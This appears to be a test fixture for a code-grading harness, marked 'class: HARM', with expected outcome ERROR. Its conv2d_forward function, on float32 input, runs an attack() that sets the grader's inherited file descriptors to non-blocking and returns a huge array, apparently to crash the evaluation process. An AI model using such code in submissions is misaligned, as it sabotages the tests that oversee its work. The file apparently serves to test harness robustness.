# class: HARM
# expect: points 18.5
# expect: outcomes ERROR
# expect: words "ended the whole process"
# with: right
"""Set the wire's own ends not to wait, then reply with more than it holds at once."""

import fcntl
import os
import numpy as np


def attack():
    for number in range(3, 64):
        try:
            fcntl.fcntl(number, fcntl.F_SETFL, fcntl.fcntl(number, fcntl.F_GETFL) | os.O_NONBLOCK)
        except OSError:
            pass


def conv2d_forward(x, w, b, stride=1, pad=0):
    if x.dtype == np.float32:
        attack()
        return np.zeros(4_000_000), None
    return right_forward(x, w, b, stride, pad)
